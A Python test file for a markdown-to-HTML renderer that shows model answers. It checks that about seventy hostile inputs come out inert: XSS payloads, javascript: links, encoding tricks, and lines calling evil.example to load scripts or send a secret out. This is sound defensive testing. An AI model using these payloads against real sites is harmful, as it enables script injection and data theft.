"""A model's answer as HTML: it reads well, and nothing in it can do anything."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.safe_html import read
from tests.support.strategies import texts

from routebook.render.markdown import DEEPEST, LONGEST, growing_to_html, pretty_json, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=key><button>go</button></form>",
    "<p style='position:fixed;inset:0;background:red'>over everything</p>",
    "<div id=rb class=jp-Toolbar data-commandlinker-command=notebook:run-all>run</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</td></tr></table></div><script>alert(1)</script>",
    "</pre></code></style></textarea></title><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x](../../api/shutdown)",
    "[x](#id)",
    "[x](?token=1)",
    "[x](blob:https://ok.example/1)",
    "[x](http://a.example/\" onmouseover=\"alert(1))",
    "[x](http://a.example/'onmouseover='alert(1) \"t\" onclick=\"alert(2)\")",
    "[x](http://a.example \"title with <b> & \\\" quotes\")",
    "<javascript:alert(1)>",
    "<https://a.example/<script>>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![<script>](https://evil.example/a.png \"on\" onload=alert(1))",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: https://evil.example \"x\"\n\n![a]",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "**<script>**alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script\x00>alert(1)</script>",
    "<scr\u0130pt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '{"a": "</code></pre><script>alert(1)</script>"}',
    "\x1b[31m<script>\x1b[0m",
    "\ud800<script>\udfff",
]  # fmt: skip


@pytest.mark.parametrize("answer", HOSTILE)
def test_nothing_dangerous_survives(answer: str) -> None:
    for html in (to_html(answer), growing_to_html(answer)):
        assert read(html).forbidden == []


@given(st.lists(st.sampled_from(HOSTILE) | texts(), max_size=4).map("\n".join))
def test_nothing_dangerous_survives_any_mixture(answer: str) -> None:
    assert read(to_html(answer)).forbidden == []


@given(texts(200))
def test_any_text_becomes_html_that_can_be_written_as_utf8(answer: str) -> None:
    to_html(answer).encode()


@given(st.text(st.sampled_from("ab \n\t>-#*|"), max_size=300))
def test_a_growing_answer_shows_every_letter_of_the_whole_in_order(answer: str) -> None:
    shown = read(growing_to_html(answer)).text

    assert "".join(filter(str.isalpha, shown)) == "".join(filter(str.isalpha, answer))


def test_markdown_is_rendered() -> None:
    html = to_html("# Title\n\n**bold** and *lean*, ~~gone~~, `code`\n\n- one\n- two\n\n| a | b |\n|--|--:|\n| 1 | 2 |")

    assert {"h5", "strong", "em", "s", "code", "ul", "li", "table", "th"} <= set(read(html).tags)
    assert '<td align="right">2</td>' in html


def test_a_code_block_keeps_its_lines_as_they_are() -> None:
    assert to_html("```python\nif a < b:\n    return\n```") == "<pre><code>if a &lt; b:\n    return\n</code></pre>\n"


def test_a_link_opens_apart_and_shows_its_address() -> None:
    html = to_html("[the docs](https://docs.example/a?b=1)")

    assert 'href="https://docs.example/a?b=1" target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert read(html).text.strip() == "the docs (https://docs.example/a?b=1)"


def test_a_link_that_is_its_own_text_shows_its_address_once() -> None:
    assert read(to_html("<https://docs.example>")).text.strip() == "https://docs.example"
    assert read(to_html("<me@docs.example>")).text.strip() == "me@docs.example"


def test_an_address_in_another_script_shows_what_it_really_is() -> None:
    assert "xn--" in read(to_html("[paypal](https://p\u0430ypal.example)")).text


def test_a_link_elsewhere_is_shown_and_not_followed() -> None:
    html = to_html("[x](javascript:alert)")

    assert "<a" not in html
    assert read(html).text.strip() == "x [no link: javascript:alert]"


def test_an_image_is_named_and_not_loaded() -> None:
    html = to_html("![a cat](https://images.example/cat.png?who=me)")

    assert "<img" not in html
    assert "who=me" not in html
    assert read(html).text.strip() == "[image not loaded: images.example] a cat"


def test_an_answer_in_json_is_indented_as_code_each_value_as_it_was_written() -> None:
    html = to_html('{"price":1.50,"of":[1,{"a":null}],"none":{},"text":"a, b: {c}"}')

    assert read(html).tags == ["pre", "code"]
    assert '  "price": 1.50,\n' in html.replace("&quot;", '"')
    assert '"text": "a, b: {c}"\n}' in html.replace("&quot;", '"')


@given(st.recursive(st.none() | st.integers() | texts(8), lambda of: st.lists(of) | st.dictionaries(texts(4), of)))
def test_indenting_changes_white_space_only(value: object) -> None:
    compact = json.dumps(value)
    value = json.loads(compact)  # two halves of a surrogate pair are one character now
    pretty = pretty_json(compact)

    assert (pretty is not None) == compact.startswith(("{", "["))
    assert pretty is None or json.loads(pretty) == value


def test_what_only_looks_like_json_is_markdown() -> None:
    assert to_html("[see] *here*").startswith("<p>[see] <em>")


def test_an_endless_answer_is_shown_whole_and_plain() -> None:
    for answer in ("x" * 5_000_000, "*a" * (LONGEST // 2 + 1)):
        html = to_html(answer)
        assert html.startswith("<pre>")
        assert len(html) == len(answer) + len("<pre></pre>\n")


@pytest.mark.parametrize(
    "answer",
    [
        "> " * 10_000 + "deep",
        ">" * 10_000 + "deep",
        "".join("  " * level + "- a\n" for level in range(100)) + "  " * 100 + "- deep",
        "- " * 5_000 + "deep",
    ],
)
def test_what_is_nested_deeper_than_markdown_goes_is_shown_whole_and_plain(answer: str) -> None:
    html = to_html(answer)

    assert html.startswith("<pre>")
    assert "deep" in html


def test_what_is_nested_as_people_do_is_rendered() -> None:
    assert "<pre>" not in to_html("".join("  " * level + "- a\n" for level in range(DEEPEST // 2 - 1)))


@pytest.mark.parametrize(
    "piece", ["[", "![", "*a **a ", "`a``b", "<", "[](", "|a", "~~a ", "_a", "](", "&", "\\", "- a\n  "]
)
def test_a_pathological_answer_is_rendered_within_bounds(piece: str) -> None:
    answer = piece * (20_000 // len(piece))

    html = to_html(answer)

    assert len(html) < 13 * len(answer) + 10_000
    assert read(html).forbidden == []


def test_deeply_nested_json_is_shown_as_it_is() -> None:
    assert read(to_html("[" * 50_000 + "]" * 50_000)).text.count("[") == 50_000


def test_marks_that_turn_a_line_around_are_visible() -> None:
    html = to_html("access\u202e\u2066// admin\u2069")

    assert "[U+202E][U+2066]" in html
    assert "\u202e" not in html


def test_escape_sequences_are_visible() -> None:
    assert to_html("\x1b[2Jgone\x07") == "<p>␛[2Jgone␇</p>\n"


def test_a_growing_answer_looks_as_the_whole_will() -> None:
    answer = "One *word*.\n\n```python\na = 1\n\nb = 2\n```\n\nMore.\n\n- x\n- y\n"

    assert growing_to_html(answer) == to_html(answer)


def test_an_unclosed_fence_is_code_already() -> None:
    assert growing_to_html("Look:\n\n```\na = 1\n\nb").endswith("<pre><code>a = 1\n\nb</code></pre>\n")
